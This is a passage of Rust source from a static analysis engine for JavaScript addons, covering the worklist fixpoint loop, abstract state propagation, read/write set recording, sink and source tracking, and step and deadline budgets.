    AnalysisConfig, BudgetExhausted, BudgetKind, SinkKind, SourceKind, StringDomain, WorklistOrder,
    DEADLINE_CHECK_INTERVAL,
};
use crate::context::{CtxId, CtxTable};
use crate::natives::{self, Environment, NativeBehavior, StrOp};
use crate::rwsets::{Loc, RwSets, Strength};
use crate::store::{slots, SiteKey, SiteTable, State};
use crate::summary::{
    self, Denormer, FuncPositions, IncrementalStats, NormCx, SummaryStore,
};
use jsir::hash::{manifest, FuncManifest};
use minijson::Json;
use jsdomains::{
    AValue, AllocSite, BoolDom, FuncIndex, Lattice, NativeId, NumDom, ObjKind, Pre, Sym,
};
use jsir::{
    EdgeKind, IrFuncId, IrStmtKind, Lowered, Operand, Place, StmtId,
};
use jsparser::ast::{BinaryOp, UnaryOp};
use sigtrace::{Attribution, Counter, Counters, Trace, CTX_CLASSES};
use std::cmp::Reverse;
use std::collections::{BTreeMap, BTreeSet, BinaryHeap, HashMap, HashSet, VecDeque};

/// A context-qualified program point in the transition graph. Both halves
/// are dense interned ids, so nodes are `Copy` and hash in O(1).
type CtxNode = (StmtId, CtxId);

/// A recorded reach of an interesting sink.
#[derive(Debug, Clone, PartialEq)]
pub struct SinkRecord {
    /// The call statement acting as the sink.
    pub stmt: StmtId,
    /// What kind of sink.
    pub kind: SinkKind,
    /// For network sends: the inferred domain (prefix domain), joined over
    /// all contexts/visits. `Pre::Bot` if never set.
    pub domain: Pre,
}

/// Everything the base analysis hands to PDG construction and signature
/// inference.
#[derive(Debug)]
pub struct AnalysisResult {
    /// Read/write sets per statement (merged over contexts).
    pub rw: BTreeMap<StmtId, RwSets>,
    /// Statements that may throw an implicit exception.
    pub may_throw: BTreeSet<StmtId>,
    /// Addon functions each call statement may invoke.
    pub call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
    /// Natives each call statement may invoke.
    pub native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
    /// Interesting sinks reached, with inferred network domains.
    pub sinks: Vec<SinkRecord>,
    /// Uses of interesting APIs: (statement, API name).
    pub api_uses: BTreeSet<(StmtId, String)>,
    /// Interesting source locations (site, property) -> kind.
    pub source_locs: BTreeMap<(AllocSite, Sym), SourceKind>,
    /// The source kinds the configuration marked interesting.
    pub interesting_sources: BTreeSet<SourceKind>,
    /// Recency aliasing: most-recent allocation site -> its aged summary
    /// twin. The DDG treats aliased sites as overlapping (cross-instance
    /// flows are weak).
    pub site_aliases: BTreeMap<AllocSite, AllocSite>,
    /// Statements lying on an execution cycle (loop, recursion, or the
    /// event loop), computed over the *context-qualified* transition graph
    /// so that a function merely called from two sites is not spuriously
    /// cyclic. These are the amplified control-edge sources (Section 3.3
    /// stage 4).
    pub cyclic_stmts: BTreeSet<StmtId>,
    /// Statements reached by the analysis.
    pub reachable: BTreeSet<StmtId>,
    /// The allocation-site interner (for diagnostics).
    pub sites: SiteTable,
    /// Worklist steps executed (perf metric). Deterministic for a fixed
    /// config, but depends on the worklist order (RPO exists to shrink it).
    pub steps: usize,
    /// Abstract-state joins performed when re-queuing an already-visited
    /// node (perf metric; order-dependent like [`AnalysisResult::steps`]).
    pub joins: usize,
    /// Abstract heap objects copied by copy-on-write during this run
    /// (perf metric; order-dependent like [`AnalysisResult::steps`]).
    pub heap_cow_clones: u64,
    /// True if `max_steps` was hit and results are partial.
    pub hit_step_limit: bool,
    /// Set when the caller-imposed step budget or wall-clock deadline
    /// tripped before the fixpoint was reached; results are partial. The
    /// service layer reports this as a degraded `timeout` verdict.
    pub budget_exhausted: Option<BudgetExhausted>,
    /// Native name table, indexed by `NativeId`.
    pub native_names: Vec<&'static str>,
}

impl AnalysisResult {
    /// Statements that read an interesting source location, with the
    /// source kinds they read. Pre-indexes `source_locs` by site so each
    /// read only probes the handful of interesting properties on its own
    /// site instead of scanning the whole table.
    pub fn source_stmts(&self) -> BTreeMap<StmtId, BTreeSet<SourceKind>> {
        let mut by_site: HashMap<AllocSite, Vec<(Sym, &SourceKind)>> = HashMap::new();
        for ((site, prop), kind) in &self.source_locs {
            by_site.entry(*site).or_default().push((*prop, kind));
        }
        let mut out: BTreeMap<StmtId, BTreeSet<SourceKind>> = BTreeMap::new();
        for (stmt, rw) in &self.rw {
            for (loc, _) in rw.reads.iter() {
                let Some(props) = by_site.get(&loc.site) else {
                    continue;
                };
                for (prop, kind) in props {
                    if loc.prop.may_be(prop) {
                        out.entry(*stmt).or_default().insert((*kind).clone());
                    }
                }
            }
        }
        out
    }

    /// The name of a native.
    pub fn native_name(&self, id: NativeId) -> &'static str {
        self.native_names[id.0 as usize]
    }
}

/// Runs the base analysis on a lowered program.
pub fn analyze(lowered: &Lowered, config: &AnalysisConfig) -> AnalysisResult {
    analyze_traced(lowered, config, &mut Trace::Off)
}

/// Runs the base analysis with an observability hook: `trace` receives
/// sub-spans (`seed` / `fixpoint` / `cycles`) and the phase counters
/// (worklist steps, state joins, heap CoW clones).
///
/// The counters are accumulated in plain machine fields and flushed once
/// at the end, so tracing adds nothing to the fixpoint loop itself; with
/// [`Trace::Off`] the whole function is [`analyze`].
pub fn analyze_traced(
    lowered: &Lowered,
    config: &AnalysisConfig,
    trace: &mut Trace<'_>,
) -> AnalysisResult {
    analyze_attributed(lowered, config, trace, &mut Attribution::Off)
}

/// Runs the base analysis with tracing *and* cost attribution: when
/// `attr` is enabled, every worklist step's owning function and clamped
/// context depth are tallied (steps + wall time) into dense per-machine
/// buckets, flushed once into the sink when the run ends. With
/// [`Attribution::Off`] this is exactly [`analyze_traced`] — the loop
/// pays one branch per step and no clock reads.
pub fn analyze_attributed(
    lowered: &Lowered,
    config: &AnalysisConfig,
    trace: &mut Trace<'_>,
    attr: &mut Attribution<'_>,
) -> AnalysisResult {
    let cow_before = jsdomains::cow_clone_count();
    let mut m = build_machine(lowered, config, None);
    if attr.is_enabled() {
        m.attr = Some(AttrTally::new(lowered.program.funcs.len()));
    }
    trace.span_start("seed");
    m.seed();
    trace.span_end("seed");
    trace.span_start("fixpoint");
    let status = m.run();
    trace.span_end("fixpoint");
    finish(m, status, cow_before, trace, attr)
}

/// Constructs a machine over a lowered program; `incr` attaches the
/// incremental-summary recording/splicing layer (`None` for the plain
/// cold analysis, which then pays nothing for it).
fn build_machine<'a>(
    lowered: &'a Lowered,
    config: &'a AnalysisConfig,
    incr: Option<Box<IncrState<'a>>>,
) -> Machine<'a> {
    let mut sites = SiteTable::new();
    let env = natives::setup(&mut sites);
    let worklist = match config.worklist {
        WorklistOrder::Rpo => Worklist::Rpo(BinaryHeap::new()),
        WorklistOrder::Fifo => Worklist::Fifo(VecDeque::new()),
    };
    Machine {
        lowered,
        config,
        env,
        sites,
        ctxs: CtxTable::new(),
        prio: rpo_priorities(lowered),
        var_keys: Vec::new(),
        states: HashMap::new(),
        worklist,
        queued: HashSet::new(),
        rw: BTreeMap::new(),
        may_throw: BTreeSet::new(),
        call_targets: BTreeMap::new(),
        native_targets: BTreeMap::new(),
        sink_domains: BTreeMap::new(),
        api_uses: BTreeSet::new(),
        ret_links: HashMap::new(),
        reachable: BTreeSet::new(),
        steps: 0,
        joins: 0,
        site_aliases: BTreeMap::new(),
        current: None,
        transitions: BTreeSet::new(),
        incr,
        attr: None,
    }
}

/// Dense per-run attribution tally: `[steps, time_ns]` per
/// `(function, clamped context depth)` bucket. Indexed arithmetic — no
/// hashing — so the enabled fixpoint loop pays two clock reads and two
/// adds per step, nothing else. Flushed once by [`finish`].
struct AttrTally {
    buckets: Vec<[u64; 2]>,
}

impl AttrTally {
    fn new(funcs: usize) -> AttrTally {
        AttrTally {
            buckets: vec![[0, 0]; funcs * CTX_CLASSES],
        }
    }

    #[inline]
    fn add(&mut self, func: IrFuncId, ctx_class: usize, time_ns: u64) {
        let b = &mut self.buckets[func.0 as usize * CTX_CLASSES + ctx_class];
        b[0] += 1;
        b[1] += time_ns;
    }
}

/// Folds a finished machine into the public result (cycle detection,
/// perf counters, trace flush).
fn finish(
    m: Machine<'_>,
    status: RunStatus,
    cow_before: u64,
    trace: &mut Trace<'_>,
    attr: &mut Attribution<'_>,
) -> AnalysisResult {
    let config = m.config;
    let native_names = m.env.natives.iter().map(|n| n.name).collect();
    trace.span_start("cycles");
    let cyclic_stmts = cyclic_statements(&m.transitions);
    trace.span_end("cycles");
    let heap_cow_clones = jsdomains::cow_clone_count() - cow_before;
    if trace.is_enabled() {
        let mut counters = Counters::new();
        counters.add(Counter::WorklistSteps, m.steps as u64);
        counters.add(Counter::StateJoins, m.joins as u64);
        counters.add(Counter::HeapCowClones, heap_cow_clones);
        trace.add_counters(&counters);
    }
    if let Some(tally) = &m.attr {
        for (fi, func) in m.lowered.program.funcs.iter().enumerate() {
            for class in 0..CTX_CLASSES {
                let [steps, ns] = tally.buckets[fi * CTX_CLASSES + class];
                if steps > 0 {
                    attr.record(&func.name, class as u8, "fixpoint", steps, ns / 1_000);
                }
            }
        }
    }
    AnalysisResult {
        rw: m.rw,
        may_throw: m.may_throw,
        call_targets: m.call_targets,
        native_targets: m.native_targets,
        sinks: m
            .sink_domains
            .into_iter()
            .map(|((stmt, kind), domain)| SinkRecord { stmt, kind, domain })
            .collect(),
        api_uses: m.api_uses,
        source_locs: m.env.source_locs.clone(),
        interesting_sources: config.security.sources.clone(),
        site_aliases: m.site_aliases,
        cyclic_stmts,
        reachable: m.reachable,
        sites: m.sites,
        steps: m.steps,
        joins: m.joins,
        heap_cow_clones,
        hit_step_limit: matches!(status, RunStatus::StepLimit),
        budget_exhausted: match status {
            RunStatus::Budget(b) => Some(b),
            _ => None,
        },
        native_names,
    }
}

/// How the fixpoint loop ended.
enum RunStatus {
    /// The worklist drained: the fixpoint was reached.
    Completed,
    /// The `max_steps` safety valve tripped.
    StepLimit,
    /// The caller-imposed step budget or wall-clock deadline tripped.
    Budget(BudgetExhausted),
}

/// Where a finished callee returns to.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
struct RetLink {
    call: StmtId,
    caller_ctx: CtxId,
    caller_func: IrFuncId,
    callee_frame: AllocSite,
    dst: Option<Place>,
    new_site: Option<AllocSite>,
    /// The `CallResult` node the return-value transfer is attributed to.
    result_node: Option<StmtId>,
}

/// The pending-node queue. FIFO is the naive baseline; RPO pops the
/// pending node with the smallest reverse-postorder number, so loop
/// bodies stabilize before their exits are visited and far fewer
/// re-propagations are needed to reach the fixpoint.
enum Worklist {
    Fifo(VecDeque<CtxNode>),
    Rpo(BinaryHeap<Reverse<(u32, StmtId, CtxId)>>),
}

impl Worklist {
    fn push(&mut self, key: CtxNode, prio: &[u32]) {
        match self {
            Worklist::Fifo(q) => q.push_back(key),
            Worklist::Rpo(h) => {
                let p = prio.get(key.0 .0 as usize).copied().unwrap_or(u32::MAX);
                h.push(Reverse((p, key.0, key.1)));
            }
        }
    }

    fn pop(&mut self) -> Option<CtxNode> {
        match self {
            Worklist::Fifo(q) => q.pop_front(),
            Worklist::Rpo(h) => h.pop().map(|Reverse((_, s, c))| (s, c)),
        }
    }
}

/// Reverse-postorder numbering of every statement, per function (each
/// function's body is a contiguous priority band). Nested functions get
/// the earlier bands and top-level the last one: pending callee and
/// event-handler work then always outranks the top-level driver, so a
/// call (or an event-loop dispatch) drains to its fixpoint before the
/// caller's continuation -- or the dispatch statement itself -- re-runs
/// on a partially-propagated state. The numbering is a scheduling
/// heuristic only -- any order reaches the same fixpoint -- so it's fine
/// that inter-function edges and catch pads reachable only through
/// implicit throws sit outside the DFS; the latter get trailing
/// priorities in statement order.
fn rpo_priorities(lowered: &Lowered) -> Vec<u32> {
    let n = lowered.program.stmt_count();
    let mut prio = vec![u32::MAX; n];
    let mut visited = vec![false; n];
    let mut next: u32 = 0;
    let (top, nested) = lowered
        .program
        .funcs
        .split_first()
        .expect("top-level function always exists");
    for func in nested.iter().chain(std::iter::once(top)) {
        let entry = func.entry;
        if visited[entry.0 as usize] {
            continue;
        }
        // Iterative DFS collecting postorder, then number it in reverse.
        let mut post: Vec<StmtId> = Vec::new();
        let mut stack: Vec<(StmtId, usize)> = vec![(entry, 0)];
        visited[entry.0 as usize] = true;
        while let Some((s, cursor)) = stack.last_mut() {
            let succs = lowered.cfg.succs(*s);
            if *cursor < succs.len() {
                let (t, _) = succs[*cursor];
                *cursor += 1;
                if !visited[t.0 as usize] {
                    visited[t.0 as usize] = true;
                    stack.push((t, 0));
                }
            } else {
                post.push(*s);
                stack.pop();
            }
        }
        for s in post.iter().rev() {
            prio[s.0 as usize] = next;
            next += 1;
        }
    }
    for (p, seen) in prio.iter_mut().zip(&visited) {
        if !seen {
            *p = next;
            next += 1;
        }
    }
    prio
}

struct Machine<'a> {
    lowered: &'a Lowered,
    config: &'a AnalysisConfig,
    env: Environment,
    sites: SiteTable,
    /// Context interner: every context-qualified key below holds a
    /// [`CtxId`] instead of a call-string vector.
    ctxs: CtxTable,
    /// Reverse-postorder priority per statement (see [`rpo_priorities`]).
    prio: Vec<u32>,
    /// Cache of `v{i}` frame-variable keys, indexed by slot number.
    var_keys: Vec<Pre>,
    states: HashMap<CtxNode, State>,
    worklist: Worklist,
    queued: HashSet<CtxNode>,
    rw: BTreeMap<StmtId, RwSets>,
    may_throw: BTreeSet<StmtId>,
    call_targets: BTreeMap<StmtId, BTreeSet<IrFuncId>>,
    native_targets: BTreeMap<StmtId, BTreeSet<NativeId>>,
    sink_domains: BTreeMap<(StmtId, SinkKind), Pre>,
    api_uses: BTreeSet<(StmtId, String)>,
    ret_links: HashMap<(IrFuncId, CtxId), BTreeSet<RetLink>>,
    reachable: BTreeSet<StmtId>,
    steps: usize,
    /// Joins into an existing abstract state (see `push_state`).
    joins: usize,
    site_aliases: BTreeMap<AllocSite, AllocSite>,
    /// The node currently being transferred (source of push_state edges).
    current: Option<CtxNode>,
    /// Context-qualified transition edges actually explored; used for
    /// cycle (amplification) detection without the spurious cycles a
    /// context-insensitive supergraph has.
    transitions: BTreeSet<(CtxNode, CtxNode)>,
    /// Incremental-summary layer (recording, store consultation and
    /// splicing). `None` for plain cold runs, which skip every hook.
    incr: Option<Box<IncrState<'a>>>,
    /// Cost-attribution tally (`None` unless the caller enabled
    /// attribution; the fixpoint loop then skips the clock reads).
    attr: Option<AttrTally>,
}

impl<'a> Machine<'a> {
    fn seed(&mut self) {
        let top = self.lowered.program.top_level();
        let mut st = self.env.initial_state.clone();
        let frame = self
            .sites
            .intern(SiteKey::Frame(top.id, CtxId::ROOT));
        st.alloc(frame, ObjKind::Host("frame"));
        st.write_slot(frame, slots::THIS, AValue::obj(self.env.global));
        st.write_slot(frame, slots::RET, AValue::undef());
        self.push_state(top.entry, CtxId::ROOT, st);
    }

    fn run(&mut self) -> RunStatus {
        // The clock only starts when a budget can trip on it, keeping the
        // unbudgeted hot path free of timing syscalls.
        let needs_clock = self.config.deadline.is_some() || self.config.step_budget.is_some();
        let start = needs_clock.then(std::time::Instant::now);
        while let Some((stmt, ctx)) = self.worklist.pop() {
            if self.incr.as_ref().is_some_and(|i| i.abandoned) {
                // A splice invariant broke mid-run: the warm attempt is
                // void and the caller re-runs cold, so stop spending.
                return RunStatus::Completed;
            }
            self.queued.remove(&(stmt, ctx));
            self.steps += 1;
            if self.steps > self.config.max_steps {
                return RunStatus::StepLimit;
            }
            if let Some(budget) = self.config.step_budget {
                if self.steps > budget {
                    return RunStatus::Budget(BudgetExhausted {
                        kind: BudgetKind::Steps,
                        steps: self.steps,
                        elapsed: start.expect("clock started with a budget").elapsed(),
                    });
                }
            }
            if let Some(deadline) = self.config.deadline {
                if self.steps % DEADLINE_CHECK_INTERVAL == 0 {
                    let elapsed = start.expect("clock started with a deadline").elapsed();
                    if elapsed > deadline {
                        return RunStatus::Budget(BudgetExhausted {
                            kind: BudgetKind::Deadline,
                            steps: self.steps,
                            elapsed,
                        });
                    }
                }
            }
            self.current = Some((stmt, ctx));
            if self.attr.is_some() {
                // Attribution enabled: two clock reads bracket the
                // transfer; the tally is indexed arithmetic, no hashing.
                let func = self.lowered.program.stmt(stmt).func;
                let class = self.ctxs.get(ctx).depth().min(CTX_CLASSES - 1);
                let t0 = std::time::Instant::now();
                self.step(stmt, ctx);
                let ns = t0.elapsed().as_nanos() as u64;
                self.attr.as_mut().expect("checked above").add(func, class, ns);
            } else {
                self.step(stmt, ctx);
            }
            self.current = None;
        }
        RunStatus::Completed
    }

    fn push_state(&mut self, stmt: StmtId, ctx: CtxId, state: State) {
        let key = (stmt, ctx);
        if let Some(cur) = self.current {
            self.transitions.insert((cur, key));
        }
        if let Some(incr) = self.incr.as_deref_mut() {
            let func = self.lowered.program.stmt(stmt).func;
            if incr.frozen.contains(&(func, ctx)) {
                // Only a spliced root's entry may receive state: caller
                // arrivals join in (never enqueue) so the end-of-run
                // check can compare the accumulated entry against the
                // stored one. Any other push into frozen territory means
                // the recorded subtree was not actually closed -- the
                // warm run is void.
                if incr.roots.contains_key(&(func, ctx))
                    && stmt == self.lowered.program.func(func).entry
                {
                    match self.states.get_mut(&key) {
                        Some(existing) => {
                            existing.join_in_place(&state);
                        }
                        None => {
                            self.states.insert(key, state);
                        }
                    }
                } else {
                    incr.abandoned = true;
                }
                return;
            }
        }
        let changed = match self.states.get_mut(&key) {
            Some(existing) => {
                self.joins += 1;
                existing.join_in_place(&state)
            }
            None => {
                self.states.insert(key, state);
                true
            }
        };
        if changed && self.queued.insert(key) {
            self.worklist.push(key, &self.prio);
        }
    }

    fn enqueue(&mut self, stmt: StmtId, ctx: CtxId) {
        if let Some(incr) = self.incr.as_ref() {
            let func = self.lowered.program.stmt(stmt).func;
            // Frozen activations never re-step -- except a spliced root's
            // exit, which replays its stored state to each new caller.
            if incr.frozen.contains(&(func, ctx)) && !incr.roots.contains_key(&(func, ctx)) {
                return;
            }
        }
        let key = (stmt, ctx);
        if self.states.contains_key(&key) && self.queued.insert(key) {
            self.worklist.push(key, &self.prio);
        }
    }

    fn frame_site(&mut self, func: IrFuncId, ctx: CtxId) -> AllocSite {
        self.sites.intern(SiteKey::Frame(func, ctx))
    }

    /// Key under which variable slot `i` is stored in its frame object.
    /// Cached: the same few dozen keys are rebuilt millions of times on
    /// the hot path otherwise.
    fn var_key(&mut self, index: u32) -> Pre {
        let i = index as usize;
        while self.var_keys.len() <= i {
            let j = self.var_keys.len();
            self.var_keys.push(Pre::exact(format!("v{j}")));
        }
        self.var_keys[i]
    }

    /// Recency allocation: if the site already holds an object (the
    /// allocation re-executed -- a loop, recursion, or another event-loop
    /// iteration), age that instance into the site's summary twin and
    /// rewrite every reference to it, then bind a fresh singleton. This is
    /// what keeps locals and fresh objects strongly updatable inside
    /// event handlers, like JSAI's stack frames.
    fn alloc_fresh(&mut self, st: &mut State, key: SiteKey, kind: ObjKind) -> AllocSite {
        let mru = self.sites.intern(key);
        if st.heap.get(mru).is_some() {
            let aged = self.sites.intern(SiteKey::Aged(mru.0));
            st.heap.rename_site(mru, aged);
            self.site_aliases.insert(mru, aged);
            if let Some(a) = self.attr_rec() {
                a.site_aliases.insert(mru, aged);
            }
        }
        st.alloc(mru, kind);
        mru
    }

    /// The per-activation output slice for the node currently being
    /// stepped. `None` outside incremental runs, so every recording hook
    /// is a single `Option` check on the cold path.
    fn attr_rec(&mut self) -> Option<&mut AttrRecord> {
        let incr = self.incr.as_deref_mut()?;
        let (stmt, ctx) = self.current?;
        let func = self.lowered.program.stmt(stmt).func;
        Some(incr.attr.entry((func, ctx)).or_default())
    }

    /// Marks a statement as possibly throwing an implicit exception and,
    /// when it has an enclosing handler, propagates the current state to
    /// the catch landing pad so code reachable only through implicit
    /// exceptions is still analyzed.
    fn implicit_throw(&mut self, stmt_id: StmtId, ctx: CtxId, st: &State) {
        self.may_throw.insert(stmt_id);
        if let Some(a) = self.attr_rec() {
            a.may_throw.insert(stmt_id);
        }
        if let Some(handler) = self.lowered.program.stmt(stmt_id).handler {
            self.push_state(handler, ctx, st.clone());
        }
    }

    fn record_read(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
        if let Some(a) = self.attr_rec() {
            a.rw.entry(stmt).or_default().reads.add(loc.clone(), strength);
        }
        self.rw.entry(stmt).or_default().reads.add(loc, strength);
    }

    fn record_write(&mut self, stmt: StmtId, loc: Loc, strength: Strength) {
        if let Some(a) = self.attr_rec() {
            a.rw.entry(stmt).or_default().writes.add(loc.clone(), strength);
        }
        self.rw.entry(stmt).or_default().writes.add(loc, strength);
    }

    /// Strength of accessing `prop` on exactly the sites `sites_hit`.
    fn access_strength(&self, st: &State, sites_hit: &[AllocSite], prop: &Pre) -> Strength {
        if sites_hit.len() == 1
            && prop.is_exact()
            && st
                .object(sites_hit[0])
                .is_some_and(|o| o.singleton)
        {
            Strength::Strong
        } else {
            Strength::Weak
        }
    }

    /// Evaluates an operand, recording reads.
    fn eval(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &State,
        op: &Operand,
    ) -> AValue {
        match op {
            Operand::Num(n) => AValue::num(*n),
            Operand::Str(s) => AValue::str(Pre::exact(s)),
            Operand::Bool(b) => AValue::bool(*b),
            Operand::Null => AValue::null(),
            Operand::Undefined => AValue::undef(),
            Operand::This => {
                self.record_read(
                    stmt,
                    Loc::exact(frame, slots::THIS),
                    self.access_strength(st, &[frame], &Pre::exact(slots::THIS)),
                );
                st.read_slot([frame], slots::THIS)
            }
            Operand::Place(Place::Global(name)) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_read(
                    stmt,
                    Loc { site: g, prop: key },
                    self.access_strength(st, &[g], &key),
                );
                match st.object(g) {
                    Some(o) => o.read_prop(&key),
                    None => AValue::undef(),
                }
            }
            Operand::Place(Place::Var(v)) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                if frames.is_empty() {
                    return AValue::any();
                }
                let key = self.var_key(v.index);
                let mut out = AValue::bottom();
                let strength = self.access_strength(st, &frames, &key);
                for f in frames {
                    self.record_read(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        strength,
                    );
                    if let Some(o) = st.object(f) {
                        out = out.join(&o.read_prop(&key));
                    }
                }
                out
            }
        }
    }

    /// Writes a variable/global place, recording the write.
    fn write_place(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        value: &AValue,
    ) {
        match dst {
            Place::Global(name) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_write(stmt, Loc { site: g, prop: key }, Strength::Strong);
                if let Some(o) = st.heap.get_mut(g) {
                    o.write_prop(&key, value, true);
                }
            }
            Place::Var(v) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                let key = self.var_key(v.index);
                let strength = self.access_strength(st, &frames, &key);
                let strong = strength == Strength::Strong;
                for f in frames {
                    self.record_write(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(f) {
                        o.write_prop(&key, value, strong);
                    }
                }
            }
        }
    }

    /// Like [`Machine::write_place`] but always a weak (joining) write,
    /// used when another definition of the same place from a sibling node
    /// must stay visible to the DDG.
    fn write_place_weak(
        &mut self,
        stmt: StmtId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        value: &AValue,
    ) {
        match dst {
            Place::Global(name) => {
                let g = self.env.global;
                let key = Pre::exact(name);
                self.record_write(stmt, Loc { site: g, prop: key }, Strength::Weak);
                if let Some(o) = st.heap.get_mut(g) {
                    o.write_prop(&key, value, false);
                }
            }
            Place::Var(v) => {
                let frames: Vec<AllocSite> = if v.func == func {
                    vec![frame]
                } else {
                    st.read_slot([frame], slots::CHAIN)
                        .objs
                        .iter()
                        .copied()
                        .filter(|s| self.sites.is_frame_of(*s, v.func))
                        .collect()
                };
                let key = self.var_key(v.index);
                for f in frames {
                    self.record_write(
                        stmt,
                        Loc {
                            site: f,
                            prop: key,
                        },
                        Strength::Weak,
                    );
                    if let Some(o) = st.heap.get_mut(f) {
                        o.write_prop(&key, value, false);
                    }
                }
            }
        }
    }

    /// Flows `state` to the successors of `stmt` whose edges satisfy
    /// `keep`. Takes the state by value: it is cloned for all successors
    /// but the last, which receives it by move (the common single-successor
    /// case costs zero clones).
    fn flow(
        &mut self,
        stmt: StmtId,
        ctx: CtxId,
        state: State,
        keep: impl Fn(EdgeKind) -> bool,
    ) {
        let lowered = self.lowered;
        let mut iter = lowered
            .cfg
            .succs(stmt)
            .iter()
            .filter(|(_, k)| keep(*k))
            .map(|(s, _)| *s)
            .peekable();
        while let Some(succ) = iter.next() {
            if iter.peek().is_some() {
                self.push_state(succ, ctx, state.clone());
            } else {
                self.push_state(succ, ctx, state);
                return;
            }
        }
    }

    #[allow(clippy::too_many_lines)]
    fn step(&mut self, stmt_id: StmtId, ctx: CtxId) {
        self.reachable.insert(stmt_id);
        if self.incr.is_some() {
            let func = self.lowered.program.stmt(stmt_id).func;
            let incr = self.incr.as_deref_mut().expect("checked above");
            // A spliced root's exit replay is bookkeeping, not
            // re-analysis; everything else counts toward
            // `functions_reanalyzed`.
            if !incr.roots.contains_key(&(func, ctx)) {
                incr.touched.insert(func);
            }
            incr.attr
                .entry((func, ctx))
                .or_default()
                .reachable
                .insert(stmt_id);
        }
        let st_in = self.states[&(stmt_id, ctx)].clone();
        // Copy out the `&'a Lowered` so borrowing the statement does not
        // freeze `self` (the old code cloned the whole statement instead).
        let lowered = self.lowered;
        let stmt = lowered.program.stmt(stmt_id);
        let func = stmt.func;
        let frame = self.frame_site(func, ctx);
        let mut st = st_in;

        match &stmt.kind {
            IrStmtKind::Enter | IrStmtKind::Nop(_) | IrStmtKind::CallResult { .. } => {
                // CallResult's reads/writes are recorded by handle_exit on
                // the caller's behalf; here it just passes state through.
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Exit => {
                self.handle_exit(stmt_id, ctx, &st, func, frame);
            }
            IrStmtKind::Copy { dst, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                self.write_place(stmt_id, func, frame, &mut st, dst, &v);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::UnOp { dst, op, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                let out = abstract_unop(*op, &v);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Typeof { dst, src } => {
                let v = self.eval(stmt_id, func, frame, &st, src);
                let out = abstract_typeof(&v, &st);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::BinOp {
                dst,
                op,
                left,
                right,
            } => {
                let l = self.eval(stmt_id, func, frame, &st, left);
                let r = self.eval(stmt_id, func, frame, &st, right);
                let mut out = abstract_binop(*op, &l, &r);
                out.strs = self.degrade(out.strs);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::NewObject { dst } | IrStmtKind::NewArray { dst } => {
                let kind = if matches!(stmt.kind, IrStmtKind::NewArray { .. }) {
                    ObjKind::Array
                } else {
                    ObjKind::Plain
                };
                let site = self.alloc_fresh(&mut st, SiteKey::Stmt(stmt_id, ctx), kind);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::NewRegex { dst, .. } => {
                let site =
                    self.alloc_fresh(&mut st, SiteKey::Stmt(stmt_id, ctx), ObjKind::Regex);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::Lambda { dst, func: lam } => {
                let site = self.alloc_fresh(
                    &mut st,
                    SiteKey::Stmt(stmt_id, ctx),
                    ObjKind::Function(FuncIndex(lam.0)),
                );
                let chain = st
                    .read_slot([frame], slots::CHAIN)
                    .join(&AValue::obj(frame));
                st.write_slot(site, slots::SCOPE, chain);
                self.write_place(stmt_id, func, frame, &mut st, dst, &AValue::obj(site));
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::LoadProp { dst, obj, prop } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let out = self.load_prop(stmt_id, &st, &ov, &pv);
                self.write_place(stmt_id, func, frame, &mut st, dst, &out);
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
            IrStmtKind::StoreProp { obj, prop, value } => {
                let ov = self.eval(stmt_id, func, frame, &st, obj);
                let pv = self
                    .eval(stmt_id, func, frame, &st, prop)
                    .to_abstract_string();
                let vv = self.eval(stmt_id, func, frame, &st, value);
                if ov.may_throw_on_access() {
                    self.implicit_throw(stmt_id, ctx, &st);
                }
                let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
                let strength = self.access_strength(&st, &hit, &pv);
                for site in hit {
                    self.record_write(
                        stmt_id,
                        Loc {
                            site,
                            prop: pv,
                        },
                        strength,
                    );
                    if let Some(o) = st.heap.get_mut(site) {
